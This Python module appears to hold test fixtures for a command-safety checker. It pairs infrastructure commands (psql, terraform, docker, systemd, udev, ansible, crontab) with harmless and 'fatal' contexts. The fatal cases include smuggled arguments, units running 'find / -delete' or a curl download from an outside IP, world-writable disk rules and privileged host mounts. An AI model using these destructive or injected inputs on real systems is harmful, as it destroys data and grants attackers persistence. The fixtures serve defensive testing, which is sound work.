"""Pairs about what was shown, made or is undone: plans, transactions, images, units: (name, line, harmless, fatal)."""

from __future__ import annotations

UNIT = "text web.service '[Unit]\\nDescription=web\\n[Service]\\nUser=www-data\\nExecStart={}\\n[Install]\\nWantedBy=multi-user.target\\n'\n"
OWN = UNIT.format("/usr/bin/node /srv/web/server.js")
DEVICE = 'text 70-web.rules \'# probes\\nSUBSYSTEM=="usb", ATTR{{idVendor}}=="0483", {}\\n\''
SETTINGS = 'text main.tf \'resource "aws_s3_bucket" "b" {}\\n\'\n'
RANGE = (
    "text hosts '[lab]\\nvm ansible_host=192.168.56.10 ansible_user=vagrant "
    "ansible_ssh_private_key_file=.vagrant/machines/vm/virtualbox/private_key\\n[web]\\nweb[1:3].shop.example.com\\n'\n"
)
BUILT = "docker image:web image:shop\ntyped 'docker build -t web:1 .'"
WEB = "docker\ntext compose.yaml 'services:\\n  web:\\n    image: nginx\\n    environment:\\n    - web\\n'\n"
STORE = "text store.yaml 'services:\\n  db:\\n    image: postgres\\n    volumes: [\"d:/var/lib/postgresql/data\"]\\nvolumes:\\n  d:\\n'\n"
TABLES = (
    "text inv.yml 'all:\\n  children:\\n    lab:\\n      hosts:\\n        vm:\\n          ansible_host: 127.0.0.1\\n"
    "          ansible_port: 2222\\n          ansible_user: vagrant\\n    shop:\\n      hosts:\\n        web1.example.com:\\n'\n"
    "text wipe.yml '- hosts: all\\n  tasks:\\n  - file: {path: /srv/data, state: absent}\\n'\n"
)

SEEN_BEFORE: list[tuple[str, str, str, str]] = [
    (
        "a file with a transaction that is taken back, or kept",
        "psql -d shop -f try.sql",
        "text try.sql '-- a try\\nbegin;\\ndelete from users;\\nrollback;\\n'",
        "text try.sql '-- a try\\nbegin;\\ndelete from users;\\ncommit;\\n'",
    ),
    (
        "the same read in, or with more behind it",
        "psql shop < try.sql",
        "text try.sql 'begin;\\ntruncate users;\\nrollback;\\n'",
        "text try.sql 'begin;\\ntruncate users;\\nrollback;\\ntruncate users;\\n'",
    ),
    (
        "the same with a remark, or one that ends before the transaction is kept",
        "psql shop < try.sql",
        "text try.sql 'begin;\\ntruncate users; --\\nrollback;\\n'",
        "text try.sql 'begin;\\ntruncate users; --\\ncommit; begin;\\nrollback;\\n'",
    ),
    (
        "the same, or with a text that only looks like a remark",
        "psql shop < try.sql",
        "text try.sql 'begin;\\ndelete from users;\\nrollback;\\n'",
        "text try.sql 'begin;\\nupdate users set a = $$--$$; commit; begin; delete from users;\\nrollback;\\n'",
    ),
    (
        "the same, or with another file in it",
        "psql shop -f try.sql",
        "text try.sql 'begin;\\ndelete from users;\\nrollback;\\n'",
        "text try.sql 'begin;\\n\\i more.sql\\ndelete from users;\\nrollback;\\n'",
    ),
    (
        "a transaction that is taken back, or kept",
        'psql shop -c "begin; delete from users; $END"',
        "var END rollback",
        "var END commit",
    ),
    (
        "a transaction that is taken back, or more behind it",
        'psql shop -c "begin; truncate users; $END"',
        "var END 'rollback;'",
        "var END 'rollback; truncate users'",
    ),
    (
        "a transaction, or what stands in none",
        'psql shop -c "$START delete from users; rollback"',
        "var START 'begin;'",
        "var START 'select 1;'",
    ),
    (
        "a transaction that is taken back, or that reaches out of it",
        'psql shop -c "begin; $MIDDLE; delete from users; rollback"',
        "var MIDDLE 'update users set a = 1'",
        "var MIDDLE \"select dblink_exec('dbname=shop', 'truncate users')\"",
    ),
    (
        "a transaction that is taken back in the words, or a second statement beside it",
        "psql shop -c 'begin; delete from users; rollback' $MORE",
        "var MORE -q",
        "var MORE '-c commit'",
    ),
    (
        "a saved plan that adds, or that destroys",
        "terraform apply -auto-approve a.tfplan",
        SETTINGS + "plan a.tfplan normal 1:aws_s3_bucket.b",
        SETTINGS + "plan a.tfplan destroy 5:aws_s3_bucket.b",
    ),
    (
        "a saved plan, or what nobody has seen",
        "terraform apply -auto-approve $P",
        SETTINGS + "plan a.tfplan normal 1:aws_s3_bucket.b\nvar P a.tfplan",
        SETTINGS + "plan a.tfplan normal 1:aws_s3_bucket.b\nvar P -var=a=b",
    ),
    (
        "an image that was built here, or another of its name",
        "docker rmi -f web:1",
        BUILT,
        BUILT.replace("web:1", "web:2"),
    ),
    (
        "an image that was built here, and another",
        "docker rmi -f web:1 $MORE",
        BUILT + "\nvar MORE -f",
        BUILT + "\nvar MORE shop:1",
    ),
    (
        "a unit put by install, or that is there already",
        "sudo install -m 644 web.service $TO",
        OWN + "var TO /etc/systemd/system/web.service",
        OWN + "var TO /etc/ssh/sshd_config",
    ),
    (
        "a unit as it lies there, or as the line writes it",
        "$FIRST sudo cp web.service /etc/systemd/system/ && sudo systemctl daemon-reload",
        OWN + "unset FIRST",
        OWN + "var FIRST 'cp other web.service;'\nfile other",
    ),
    (
        "a unit that starts a program, or one by a shell",
        "sudo cp web.service /etc/systemd/system/",
        OWN,
        UNIT.format("/usr/bin/env sh /srv/web/run"),
    ),
    (
        "a unit that starts a program, or another one first",
        "sudo cp web.service /etc/systemd/system/",
        OWN,
        OWN.replace("ExecStart=", "ExecStartPre=/usr/bin/curl -o /srv/x http://203.0.113.9/x\\nExecStart="),
    ),
    (
        "a unit that lies here, or a link to one elsewhere",
        "sudo cp web.service /etc/systemd/system/",
        OWN,
        OWN.replace("web.service", "other") + "link web.service other",
    ),
    (
        "a machine of the inventory to try on, or a row of others",
        "ansible $G -i hosts -b -m shell -a 'systemctl stop nginx'",
        RANGE + "var G lab",
        RANGE + "var G web",
    ),
    (
        "a cloud played here, or elsewhere",
        "awslocal s3 rb s3://uploads --force",
        "unset LOCALSTACK_HOST",
        "var LOCALSTACK_HOST s3.shop.example.com",
    ),
    (
        "the database that supabase runs here, or that of a project",
        'supabase db reset --db-url "$U"',
        "var U postgresql://postgres:postgres@127.0.0.1:54322/postgres",
        "var U postgresql://postgres:x@db.abc.supabase.co:5432/postgres?a=@127.0.0.1:54322/",
    ),
    (
        "variables in a file, or settings of compose itself",
        "docker compose --env-file live.env down -v",
        WEB + "text live.env 'PORT=80\\n'",
        WEB + STORE + "text live.env 'COMPOSE_FILE=store.yaml\\n'",
    ),
    (
        "variables in a file, or what they stand for in the settings",
        "docker compose --env-file live.env down -v",
        WEB + "text live.env 'PORT=80\\n'",
        WEB.replace("- web", "- ${KIND}") + "text live.env 'KIND=data:/var/lib/data\\n'",
    ),
    (
        "a group of containers made in the session, or one beside it",
        "podman pod rm -f web",
        "typed 'podman pod create --name web'",
        "typed 'podman pod create --name shop'",
    ),
    (
        "mysql: all databases dumped, or all of another server",
        "mysqladmin -f drop shop",
        "file all.sql\ntyped 'mysqldump --all-databases > all.sql'",
        "file all.sql\ntyped 'mysqldump -h db.example.com --all-databases > all.sql'",
    ),
    (
        "mysql: the database that was dumped, or one that was not",
        "mysqladmin -f drop $D",
        "file a.sql\ntyped 'mysqldump shop > a.sql'\nvar D shop",
        "file a.sql\ntyped 'mysqldump shop > a.sql'\nvar D drop",
    ),
    (
        "machines to try on in tables, or all of them",
        "ansible-playbook -i inv.yml wipe.yml --limit $L",
        TABLES + "var L lab",
        TABLES + "var L all",
    ),
    (
        "machines to try on in tables, or a group that takes in more",
        "ansible-playbook -i inv.yml wipe.yml --limit lab",
        TABLES,
        TABLES.replace(
            "          ansible_user: vagrant\\n",
            "          ansible_user: vagrant\\n      children:\\n        shop:\\n          hosts:\\n            web2.example.com:\\n",
        ),
    ),
    (
        "mysql: a dump of a database, or of one table of it",
        "mysql -e 'drop database shop'",
        "file a.sql\ntyped 'mysqldump shop > a.sql'",
        "file a.sql\ntyped 'mysqldump shop orders > a.sql'",
    ),
    (
        "a dump of a database, or of what stands around its rows",
        "dropdb shop",
        "file a.sql\ntyped 'pg_dump shop > a.sql'",
        "file a.sql\ntyped 'pg_dump --section=pre-data shop > a.sql'",
    ),
    (
        "jobs that a shell runs, or what is put in its place",
        "crontab new.cron",
        "text new.cron 'SHELL=/bin/bash\\n0 4 * * * ./backup\\n'\ntext old.cron a\ntyped 'crontab -l > old.cron'",
        "text new.cron 'SHELL=/srv/x\\n0 4 * * * ./backup\\n'\ntext old.cron a\ntyped 'crontab -l > old.cron'",
    ),
    (
        "a unit that serves, or one that removes",
        "sudo cp web.service /etc/systemd/system/",
        OWN,
        UNIT.format("/usr/bin/find / -delete"),
    ),
    (
        "a unit that serves, or a container with the whole machine in it",
        "sudo cp web.service /etc/systemd/system/",
        OWN,
        UNIT.format("/usr/bin/docker run --privileged -v /:/host alpine"),
    ),
    (
        "a unit that serves and is moved there, or one that removes",
        "sudo mv web.service /etc/systemd/system/",
        OWN,
        UNIT.format("/usr/bin/find / -delete"),
    ),
    (
        "a rule that tells a device apart, or one that runs a program",
        "sudo cp 70-web.rules /etc/udev/rules.d/",
        DEVICE.format('MODE="0660", GROUP="plugdev"'),
        DEVICE.format('RUN+="/srv/x"'),
    ),
    (
        "a rule about a device, or one that lets everybody write disks",
        "sudo cp 70-web.rules /etc/udev/rules.d/",
        DEVICE.format('SYMLINK+="probe", TAG+="uaccess"'),
        'text 70-web.rules \'SUBSYSTEM=="block", MODE="0666"\\n\'',
    ),
    (
        "a rule about a device, or one that starts a unit",
        "sudo install -m 644 70-web.rules /etc/udev/rules.d",
        DEVICE.format('MODE="0666"'),
        DEVICE.format('ENV{SYSTEMD_WANTS}="x.service"'),
    ),
    (
        "a rule about a device, or one that sets something in the system",
        "sudo cp 70-web.rules /etc/udev/rules.d/",
        DEVICE.format('GROUP="dialout"'),
        DEVICE.format('ATTR{remove}="1"'),
    ),
    (
        "rights to a kind of device, or to all that there are",
        "sudo cp 70-web.rules /etc/udev/rules.d/",
        'text 70-web.rules \'KERNEL=="ttyUSB[0-9]*|ttyACM*", MODE="0660", GROUP="dialout"\\n\'',
        'text 70-web.rules \'KERNEL=="*", MODE="0666"\\n\'',
    ),
    (
        "rights to what hangs on a bus by its maker, or to all that hangs on it, disks too",
        "sudo mv 70-web.rules /etc/udev/rules.d/",
        'text 70-web.rules \'SUBSYSTEMS=="usb", ATTRS{idProduct}=="0042", MODE="0666"\\n\'',
        'text 70-web.rules \'SUBSYSTEMS=="usb", MODE="0666"\\n\'',
    ),
    (
        "rights to a kind of device, or to disks by a pattern",
        "sudo cp 70-web.rules /etc/udev/rules.d/",
        'text 70-web.rules \'SUBSYSTEM=="tty", OWNER="ann"\\n\'',
        'text 70-web.rules \'KERNEL=="[s]d*", OWNER="ann"\\n\'',
    ),
    (
        "a unit that root alone may write, or anybody",
        "sudo install -m $MODE web.service /etc/systemd/system/",
        f"{OWN}var MODE 644",
        f"{OWN}var MODE 666",
    ),
    (
        "a unit that is root's, or somebody's",
        "sudo install -o $OWNER -m 644 web.service /etc/systemd/system/",
        f"{OWN}var OWNER root",
        f"{OWN}var OWNER ann",
    ),
]
